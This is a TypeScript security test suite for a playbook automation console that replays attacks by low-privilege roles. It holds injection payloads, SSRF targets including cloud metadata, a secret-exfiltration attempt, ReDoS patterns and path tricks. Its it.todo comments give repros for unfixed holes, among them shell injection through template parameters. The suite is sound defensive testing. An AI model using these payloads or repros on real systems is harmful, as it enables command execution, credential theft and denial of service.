import type { PlaybookRunDetail } from '@contracts';
import { TestApp, type SignedInAgent } from '../support/test-app';
import { as, httpPeer, waitForRun } from '../api/playbooks/run-support';

/**
 * Playbooks replayed by an attacker, each with the weakest role that could try it: viewers and responders trying to
 * run, approve or cancel; an editor trying to get code run on the console (exec is admins' only), to reach the
 * console's database, its own port or cloud metadata, or to read a connection's secret; an anonymous caller of the
 * webhook and live-stream routes. Each `it` holds today. Each `it.todo` is a hole found by this review: it says what
 * should hold and what happens today, with a one-line repro.
 */
const PASSWORD = 'Peer-Pa55word-4417';

describe('playbooks, attacked', () => {
  let t: TestApp;
  let admin: SignedInAgent;
  let editor: SignedInAgent;
  let viewer: SignedInAgent;
  let responder: SignedInAgent;
  let approver: SignedInAgent;
  let peer: Awaited<ReturnType<typeof httpPeer>>;
  let other: Awaited<ReturnType<typeof httpPeer>>;
  /** Listens on the port the console is configured with (PORT): it stands in for the console's own API. */
  let consoleSelf: Awaited<ReturnType<typeof httpPeer>>;
  let configId: string;

  const count = async (sql: string, params: unknown[] = []) => (await t.pool.query<{ n: number }>(`SELECT (${sql})::int AS n`, params)).rows[0].n;
  const save = async (who: SignedInAgent, title: string, spec: Record<string, unknown>) =>
    (await as(who).post('/api/playbooks', { title, spec }).expect(201)).body.id as string;
  const start = async (who: SignedInAgent, id: string, extra: Record<string, unknown> = {}) =>
    (
      await as(who)
        .post('/api/playbook/run', { id, ...extra })
        .expect(200)
    ).body.run_id as string;
  const call = (name: string, path = name) => ({ name, http: { url: `${peer.url}/${path}` } });

  beforeAll(async () => {
    peer = await httpPeer((hit) => ({ status: 200, body: { echoed: hit.headers['x-key'] ?? null } }));
    other = await httpPeer();
    consoleSelf = await httpPeer();
    t = await TestApp.start({ PLAYBOOK_WORKER_TICK_MS: '100', HEALTH_SCHEDULER: 'off', PORT: new URL(consoleSelf.url).port });
    [admin, editor, viewer, responder, approver] = await Promise.all([
      t.signInAs(['admin']),
      t.signInAs(['editor']),
      t.signInAs(['viewer']),
      t.signInAs(['responder']),
      t.signInAs(['viewer']),
    ]);
    await as(admin).post('/api/connections', { name: 'peer', type: 'http', url: peer.url, password: PASSWORD }).expect(201);
    configId = (
      await t.pool.query<{ id: string }>(
        `INSERT INTO config_items (config_class, type, name, labels) VALUES ('Service', 'Shop::Service', 'checkout', '{"app":"shop"}') RETURNING id`,
      )
    ).rows[0].id;
  });
  afterAll(async () => {
    await t?.stop();
    await Promise.all([peer?.close(), other?.close(), consoleSelf?.close()]);
  });

  describe('who may run, approve and cancel', () => {
    let gated: string;
    beforeAll(async () => {
      gated = await save(admin, 'Gated', { approval: { approvers: { people: [approver.email] } }, actions: [call('gated')] });
    });

    it.each([
      ['viewer', () => viewer],
      ['responder', () => responder],
    ])('a %s cannot run, re-run, cancel or (unlisted) approve; nothing changes', async (_role, who) => {
      const runId = await start(editor, gated);
      const runs = await count(`SELECT count(*) FROM playbook_runs`);
      await as(who()).post('/api/playbook/run', { id: gated }).expect(403);
      await as(who()).post(`/api/playbook/run/${runId}/rerun`).expect(403);
      await as(who()).post(`/api/playbook/run/${runId}/cancel`).expect(403);
      await as(who()).post(`/api/playbook/run/approve/${runId}`).expect(403);
      // without the CSRF token, a cookie-authenticated write is refused before anything else
      await who().agent.post(`/api/playbook/run/approve/${runId}`).expect(403);
      expect(await count(`SELECT count(*) FROM playbook_runs`)).toBe(runs);
      expect(await count(`SELECT count(*) FROM playbook_approvals WHERE run_id = $1`, [runId])).toBe(0);
      expect((await waitForRun(t, admin, runId, ['pending_approval'])).status).toBe('pending_approval');
    });

    it('an editor who started a run but is not an approver cannot approve it, even with autoApprove set', async () => {
      const auto = await save(admin, 'Gated auto', { approval: { approvers: { people: [approver.email] }, autoApprove: true }, actions: [call('auto')] });
      for (const id of [gated, auto]) {
        const runId = await start(editor, id);
        const res = await as(editor).post(`/api/playbook/run/approve/${runId}`).expect(403);
        expect(res.body.message).toMatch(/not an approver/);
        const run = await waitForRun(t, editor, runId, ['pending_approval']);
        expect(run.approval).toMatchObject({ approvals: [], can_approve: false });
      }
    });

    it('a listed approver with only read access approves; a cancelled run can no longer be approved and never runs', async () => {
      const first = await start(editor, gated);
      await as(approver).post(`/api/playbook/run/approve/${first}`).expect(200);
      expect((await waitForRun(t, admin, first)).status).toBe('completed');
      await as(approver).post(`/api/playbook/run/approve/${first}`).expect(409);

      const second = await start(editor, gated);
      await as(editor).post(`/api/playbook/run/${second}/cancel`).expect(200);
      await as(approver).post(`/api/playbook/run/approve/${second}`).expect(409);
      await as(editor).post(`/api/playbook/run/${second}/cancel`).expect(409);
      const run = await waitForRun(t, admin, second, ['cancelled']);
      expect(run.actions).toEqual([]);
      expect(peer.hits.filter((h) => h.url === '/gated')).toHaveLength(1);
    });

    it('the `playbook` action does not skip approval: the child of a gated playbook waits for an approver', async () => {
      const parent = await save(editor, 'Calls gated', { actions: [{ name: 'child', playbook: { name: 'gated' } }] });
      const runId = await start(editor, parent);
      const run = await waitForRun(t, admin, runId, ['waiting']);
      const child = (await t.pool.query(`SELECT id, status FROM playbook_runs WHERE parent_id = $1`, [run.id])).rows[0];
      expect(child.status).toBe('pending_approval');
      await as(editor).post(`/api/playbook/run/approve/${child.id}`).expect(403);
      await as(editor).post(`/api/playbook/run/${runId}/cancel`).expect(200);
      await as(editor).post(`/api/playbook/run/${child.id}/cancel`).expect(200);
    });

    it('runs, their actions and approvals cannot be written through the data API, even by an editor', async () => {
      const runId = await start(editor, gated);
      const before = await count(`SELECT count(*) FROM playbook_approvals`);
      const tries = [
        as(editor).post('/api/db/playbook_approvals', { run_id: runId, person_id: editor.personId }),
        as(editor).patch(`/api/db/playbook_runs?id=eq.${runId}`, { status: 'scheduled' }),
        as(editor).post('/api/db/playbook_runs', { playbook_id: gated, status: 'scheduled', spec: { actions: [] } }),
        as(editor).patch(`/api/db/playbook_run_actions?playbook_run_id=eq.${runId}`, { status: 'completed' }),
        as(editor).delete(`/api/db/playbook_runs?id=eq.${runId}`),
      ];
      for (const res of await Promise.all(tries)) expect(res.status).toBeGreaterThanOrEqual(400);
      expect(await count(`SELECT count(*) FROM playbook_approvals`)).toBe(before);
      expect((await t.pool.query(`SELECT status FROM playbook_runs WHERE id = $1`, [runId])).rows[0].status).toBe('pending_approval');
    });

    // Repro: approval {type: all, approvers: {people: [alice, 'ghost@nowhere.invalid']}}; alice approves → the run starts.
    it.todo(
      '`type: all` with a listed approver who does not exist (a typo, someone removed) stays pending — today that name is skipped and one approval runs it (runs.service.ts approvalComplete)',
    );
  });

  describe('getting code run on the console without write on exec', () => {
    let adminExec: string;
    beforeAll(async () => {
      adminExec = await save(admin, 'Admin exec', {
        parameters: [{ name: 'service', type: 'text' }],
        actions: [{ name: 'restart', exec: { script: 'echo "restarting {{ .params.service }}"' } }],
      });
    });

    it('an editor cannot add an exec action on any write path, nor rewrite or revive an administrator’s exec playbook', async () => {
      const exec = { title: 'Sneaky', spec: { title: 'Sneaky', actions: [{ name: 's', exec: { script: 'id -u' } }] } };
      const before = await count(`SELECT count(*) FROM playbooks`);
      await as(editor).post('/api/playbooks', exec).expect(403);
      const yaml = `apiVersion: mission-control.flanksource.com/v1\nkind: Playbook\nmetadata: {name: sneaky-yaml}\nspec:\n  title: Y\n  actions:\n    - name: s\n      exec: {script: id -u}\n`;
      await as(editor).post('/api/playbooks', { yaml }).expect(403);
      await as(editor).post('/api/db/playbooks', { name: 'sneaky-data', spec: exec.spec }).expect(403);
      expect(await count(`SELECT count(*) FROM playbooks`)).toBe(before);

      const plain = await save(editor, 'Plain', { actions: [call('plain')] });
      await as(editor).put(`/api/playbooks/${plain}`, exec).expect(403);
      await as(editor).patch(`/api/db/playbooks?id=eq.${plain}`, { spec: exec.spec }).expect(403);
      await as(editor)
        .put(`/api/playbooks/${adminExec}`, { title: 'Admin exec', spec: { actions: [{ name: 'restart', exec: { script: 'id' } }] } })
        .expect(403);
      await as(editor)
        .patch(`/api/db/playbooks?id=eq.${adminExec}`, { spec: { title: 'x', actions: [call('x')] } })
        .expect(403);
      await as(editor).delete(`/api/playbooks/${adminExec}`).expect(403);

      const retired = await save(admin, 'Retired exec', { actions: [{ name: 's', exec: { script: 'echo old' } }] });
      await as(admin).delete(`/api/playbooks/${retired}`).expect(204);
      await as(editor).patch(`/api/db/playbooks?id=eq.${retired}`, { deleted_at: null }).expect(403);
      expect((await t.pool.query(`SELECT deleted_at FROM playbooks WHERE id = $1`, [retired])).rows[0].deleted_at).not.toBeNull();
      expect((await t.pool.query(`SELECT spec FROM playbooks WHERE id = $1`, [plain])).rows[0].spec.actions[0]).toHaveProperty('http');
      expect((await t.pool.query(`SELECT spec FROM playbooks WHERE id = $1`, [adminExec])).rows[0].spec.actions[0].exec.script).toContain('restarting');
    });

    // Repro: admin's exec script `echo "restarting {{ .params.service }}"`; editor runs it with service = `x"; id -u; echo "`
    // → stdout "restarting x\n65534". Same through a config name an editor writes on /api/db/config_items ({{ .config.name }}).
    it.todo(
      'a parameter (or a resource field an editor writes) reaches an exec script as data, never as shell — today `{{ .params.x }}` is pasted into the script unquoted and an editor runs commands of their choice',
    );
    // Repro: editor saves {on: {webhook: {path: relay}}, actions: [{playbook: {name: admin-exec, params: {service: '{{ .request.body.s }}'}}}]};
    // anonymous POST /api/playbook/webhook/relay {"s": "$(id -u)"} → the admin's exec run completes with "restarting 65534".
    it.todo(
      'a playbook whose author may not write exec cannot start an exec playbook through the `playbook` action (or the child runs as its starter and is refused) — today an editor relays an anonymous webhook into an administrator’s exec playbook with parameters of the caller’s choice',
    );
  });

  describe('reaching what the console keeps out of reach', () => {
    it("sql and http actions cannot reach the console's database, its own port or cloud metadata", async () => {
      const selfHits = consoleSelf.hits.length;
      const id = await save(editor, 'Out of reach', {
        actions: [
          { name: 'db', if: 'always()', sql: { connection: 'postgres://postgres@127.0.0.1:5432/postgres', query: 'SELECT 1' } },
          { name: 'db-name', if: 'always()', sql: { connection: 'postgres://postgres@localhost/postgres', query: 'SELECT 1' } },
          { name: 'db-query-host', if: 'always()', sql: { connection: 'postgres://postgres@db.example.invalid/x?host=127.0.0.1', query: 'SELECT 1' } },
          { name: 'db-socket', if: 'always()', sql: { connection: 'postgres://postgres@db.example.invalid/x?host=/var/run/postgresql', query: 'SELECT 1' } },
          { name: 'self', if: 'always()', http: { url: `http://127.0.0.1:${new URL(consoleSelf.url).port}/api/auth/whoami` } },
          { name: 'self-v6', if: 'always()', http: { url: `http://[::ffff:127.0.0.1]:${new URL(consoleSelf.url).port}/` } },
          { name: 'metadata', if: 'always()', http: { url: 'http://169.254.169.254/latest/meta-data/' } },
        ],
      });
      const run = await waitForRun(t, editor, await start(editor, id));
      expect(run.status).toBe('failed');
      const byName = Object.fromEntries(run.actions.map((a) => [a.name, a]));
      for (const name of ['db', 'db-name', 'db-query-host']) expect(byName[name]).toMatchObject({ status: 'failed', error: expect.stringMatching(/database/) });
      expect(byName['db-socket'].error).toMatch(/unix sockets|network host/);
      for (const name of ['self', 'self-v6']) expect(byName[name]).toMatchObject({ status: 'failed', error: expect.stringMatching(/this console/) });
      expect(byName.metadata.error).toMatch(/metadata/);
      expect(consoleSelf.hits.length).toBe(selfHits);
    });

    it("a connection's password goes only to its own origin, and is redacted from the stored result, log and run page", async () => {
      const secretHeader = { 'x-key': { valueFrom: { secretKeyRef: { name: 'peer', key: 'password' } } } };
      const id = await save(editor, 'Echo secret', {
        actions: [
          { name: 'own', http: { url: `${peer.url}/echo`, headers: secretHeader } },
          { name: 'elsewhere', if: 'always()', http: { url: `${other.url}/steal`, headers: secretHeader } },
        ],
      });
      const run = await waitForRun(t, viewer, await start(editor, id));
      expect(peer.hits.find((h) => h.url === '/echo')?.headers['x-key']).toBe(PASSWORD);
      expect(other.hits.filter((h) => h.url === '/steal')).toHaveLength(0);
      expect(run.actions.find((a) => a.name === 'elsewhere')).toMatchObject({ status: 'failed' });
      expect(JSON.stringify(run.actions[0].result)).toContain('***');
      const stored = await t.pool.query(`SELECT result::text AS r, coalesce(error, '') AS e FROM playbook_run_actions WHERE playbook_run_id = $1`, [run.id]);
      for (const row of stored.rows) expect(row.r + row.e).not.toContain(PASSWORD);
      expect(JSON.stringify(run)).not.toContain(PASSWORD);
    });

    // Repro: a name that resolves to 198.51.100.7 when the policy asks and to 127.0.0.1 when the client connects
    // (TTL 0, or dns.lookup patched in-process) → http action to http://rebind.example:<PORT>/ reaches the console.
    it.todo(
      'an http action connects to the address the outbound policy approved — today the policy resolves the name, then the client resolves it again, so DNS rebinding reaches the console’s port or metadata (core/outbound/outbound-http.ts)',
    );
    // Repro: sql action on mysql://root@127.0.0.1:3306/test `SELECT REPEAT('x', 1000000) FROM <20 rows>` → 20 MB in
    // playbook_run_actions.result, sent whole on every run read and every live-stream message.
    it.todo(
      'a stored action result is capped in bytes (as exec output and http bodies are) — today an sql action stores up to 10,000 rows of any width (20 MB in one run)',
    );
  });

  describe('the webhook route, anonymous', () => {
    let open: string;
    beforeAll(async () => {
      open = await save(admin, 'Open hook', { on: { webhook: { path: 'open-hook' } }, actions: [call('hooked')] });
      await save(admin, 'Token hook', {
        on: { webhook: { path: 'token-hook', authentication: { token: { valueFrom: { secretKeyRef: { name: 'peer', key: 'password' } } } } } },
        actions: [call('token')],
      });
    });
    const runsOf = async (id: string) => count(`SELECT count(*) FROM playbook_runs WHERE playbook_id = $1`, [id]);

    it('wrong or missing credentials start nothing; a body over the limit is refused before a run; path tricks find nothing', async () => {
      const runs = await count(`SELECT count(*) FROM playbook_runs`);
      await t.http().post('/api/playbook/webhook/token-hook').send({}).expect(401);
      await t.http().post('/api/playbook/webhook/token-hook').set('authorization', 'Bearer wrong').send({}).expect(401);
      // the console's own sign-in is not a webhook credential
      await t
        .http()
        .post('/api/playbook/webhook/token-hook')
        .set('authorization', `Basic ${Buffer.from(`${admin.email}:correct-horse-battery`).toString('base64')}`)
        .expect(401);
      await t
        .http()
        .post('/api/playbook/webhook/open-hook')
        .set('content-type', 'application/json')
        .send(`{"x":"${'a'.repeat(2 * 1024 * 1024)}"}`)
        .expect(413);
      for (const path of ['..%2Fopen-hook', 'open-hook%2F..', '%2e%2e', 'OPEN-HOOK']) {
        await t.http().post(`/api/playbook/webhook/${path}`).send({}).expect(404);
      }
      expect(await count(`SELECT count(*) FROM playbook_runs`)).toBe(runs);
      const ok = await t.http().post('/api/playbook/webhook/token-hook').set('authorization', `Bearer ${PASSWORD}`).send({}).expect(200);
      expect((await waitForRun(t, admin, ok.body.run_id)).status).toBe('completed');
    });

    it('the Authorization header and cookies of a webhook call are not stored with the run', async () => {
      const res = await t
        .http()
        .post('/api/playbook/webhook/open-hook')
        .set('authorization', 'Bearer not-for-storage-1')
        .set('cookie', 'console_session=not-for-storage-2')
        .send({ ref: 'main' })
        .expect(200);
      const stored = (await t.pool.query(`SELECT request::text AS r FROM playbook_runs WHERE id = $1`, [res.body.run_id])).rows[0].r;
      expect(stored).toContain('main');
      expect(stored).not.toMatch(/not-for-storage/);
      expect(await runsOf(open)).toBeGreaterThan(0);
    });

    // Repro: POST /api/playbook/webhook/open-hook%00, or a JSON body holding "\u0000" → 500 (Postgres refuses NUL in text/jsonb).
    it.todo('a NUL byte in a webhook path or body (or run parameters) answers 400 — today 500');
    // Repro: POST /api/playbook/webhook/open-hook with `X-Api-Key: k` and `Proxy-Authorization: Basic …` → a viewer reads
    // both on GET /api/db/playbook_runs?select=request.
    it.todo(
      'credential-like headers of a webhook call (X-Api-Key, Proxy-Authorization, X-*-Token…) are not stored, or only for writers — today only Authorization and Cookie are dropped and viewers read the rest',
    );
    // Repro: admin saves on.webhook.authentication.token: 'tok-SECRET-1'; a viewer's GET /api/playbooks/{id} (and /api/db/playbooks)
    // shows it, and with it the viewer starts runs through the webhook.
    it.todo(
      'a webhook token or basic password written as a value is not shown to readers (or only secret references are accepted) — today every viewer reads it and can start the playbook',
    );
    // Repro: INSERT INTO properties (name, value) VALUES ('playbooks.disable', 'true'); POST /api/playbook/webhook/open-hook → 200 and a run.
    it.todo(
      'with the playbooks feature disabled the webhook route is refused — today @Public({ownAuthorization}) returns before the feature check (core/auth/auth.guard.ts)',
    );
    // Repro: POST /api/playbook/webhook/token-hook without credentials → 401; /webhook/no-such → 404; no limit on either.
    it.todo(
      'an unknown path and a known one without valid credentials answer alike, and failed webhook calls are rate limited — today 404 vs 401 tells which paths exist and tokens (even a connection’s password used as token) can be guessed without limit',
    );
  });

  describe('the live stream and resource search', () => {
    it('the run stream needs a signed-in reader; an unknown run is 404', async () => {
      const id = await save(admin, 'Streamed', { actions: [call('streamed')] });
      const runId = await start(admin, id);
      await t.http().get(`/api/playbook/run/${runId}/events`).expect(401);
      await viewer.agent.get('/api/playbook/run/00000000-0000-4000-8000-000000000000/events').expect(404);
      await viewer.agent.get('/api/playbook/run/not-a-uuid/events').expect(400);
      await waitForRun(t, admin, runId);
      const res = await viewer.agent.get(`/api/playbook/run/${runId}/events`).expect(200);
      expect(res.headers['content-type']).toMatch(/text\/event-stream/);
      expect(res.text).toMatch(/event: run\ndata: .*"status":"completed"/);
    });

    // Repro: open GET /api/playbook/run/{pending run}/events, sign out (session revoked), approve the run → the stream still
    // sends the run; it re-reads with the principal captured when it opened.
    it.todo('a live stream ends when its session is revoked (sign-out, deactivation) — today it keeps sending the run until the run ends');
    // Repro: a viewer opens N streams on a run pending approval: each re-reads the run (5 queries) every second, forever, and a
    // client gone while the first read is under way leaves its watcher behind (req.on('close') is attached after that read).
    it.todo('open streams are capped per person and replica, and a stream whose client left during its first read is released — today neither');

    it('resource search takes search, types and selectors as data: no injection, LIKE wildcards are literal', async () => {
      const configs = await count(`SELECT count(*) FROM config_items`);
      const search = (body: Record<string, unknown>) => viewer.agent.post('/api/resources/search').set('x-csrf-token', viewer.csrf).send(body);
      for (const body of [
        { search: "x' OR '1'='1" },
        { search: "'); DROP TABLE config_items; --" },
        { types: ["' OR 1=1 --"] },
        { kinds: ["config'; --"] },
        { search: '\\' },
      ]) {
        const res = await search(body);
        expect([200, 400]).toContain(res.status);
        if (res.status === 200) expect(res.body.configs).toEqual([]);
      }
      for (const wildcard of ['%', '_', 'ch%', 'check_ut']) expect((await search({ search: wildcard }).expect(200)).body.configs).toEqual([]);
      expect((await search({ search: 'checkout' }).expect(200)).body.configs.map((c: { id: string }) => c.id)).toEqual([configId]);
      const literal = await save(editor, 'Literal selectors', { configs: [{ name: '%' }, { name: 'check_ut' }, { types: ['%'] }], actions: [call('lit')] });
      expect((await search({ playbook_id: literal }).expect(200)).body.configs).toEqual([]);
      await t.http().post('/api/resources/search').send({ search: 'checkout' }).expect(401);
      expect(await count(`SELECT count(*) FROM config_items`)).toBe(configs);
    });

    it('a catastrophic parameter regex is judged in the bounded evaluator: the run is refused and the gateway keeps answering', async () => {
      const id = await save(editor, 'Evil regex', { parameters: [{ name: 'v', properties: { regex: '(a+)+$' } }], actions: [call('regex')] });
      const res = await as(editor)
        .post('/api/playbook/run', { id, params: { v: `${'a'.repeat(40)}!` } })
        .expect(400);
      expect(res.body.details.params.v).toMatch(/must match/);
      await viewer.agent.get('/api/playbook/list').expect(200);
      expect(await count(`SELECT count(*) FROM playbook_runs WHERE playbook_id = $1`, [id])).toBe(0);
    });

    // Repro (do not run: it stalls the gateway): editor saves configs: [{name: '************X'}]; any reader opens the config's
    // Playbooks tab (GET /api/playbook/list?config_id=…) → selectors.ts wildcard() builds /^.*.*…X$/ and backtracks on the
    // gateway's thread (10 stars on a 27-character name: 14 s; each more star ×30). The event trigger consumer does the same.
    it.todo(
      "a selector's `*` wildcards are matched in linear time (or their count is limited when saved) — today a pattern of many `*` freezes the gateway's event loop on every list, run and event",
    );
  });

  describe('the engine under abuse', () => {
    // Repro: editor saves 'loop' = {actions: [{name: again, playbook: {name: loop}}]} and runs it → a new run every tick,
    // unbounded (36 runs within a few hundred ms here), until the playbook is deleted.
    it.todo('a chain of `playbook` actions is bounded (depth limit, or a playbook already in its own ancestry is refused) — today A → A runs forever');
    // Repro: a run [a1: http to a peer that holds its answer, a2 (if: always()): http]; while a1 waits, the lease runs out
    // (a stall, a lost DB connection); replica B claims the run, fails a1, runs a2; A's a1 then answers and A settles a1
    // `completed` over B's `failed` and runs a2 again: a2 reached twice. (settle/insertAction/markRunning do not check lease_owner.)
    it.todo(
      "a replica that lost a run's lease records nothing more and starts no further action — today it keeps going until its next lease renewal, so an action runs twice across replicas",
    );
    it('a run whose parameters do not pass, or with unknown ones, is refused before anything is stored', async () => {
      const id = await save(editor, 'Strict params', {
        parameters: [{ name: 'n', properties: { maxLength: 10 } }],
        actions: [call('strict')],
      });
      const before = await count(`SELECT count(*) FROM playbook_runs`);
      await as(editor)
        .post('/api/playbook/run', { id, params: { n: 'x'.repeat(500_000) } })
        .expect(400);
      const res = await as(editor)
        .post('/api/playbook/run', { id, params: { n: 'ok', __proto__x: 1, extra: 'x' } })
        .expect(400);
      expect(Object.keys(res.body.details.params).sort()).toEqual(['__proto__x', 'extra']);
      expect(await count(`SELECT count(*) FROM playbook_runs`)).toBe(before);
      const detail: PlaybookRunDetail = await waitForRun(t, editor, await start(editor, id, { params: { n: 'fine' } }));
      expect(detail.status).toBe('completed');
    });
  });
});
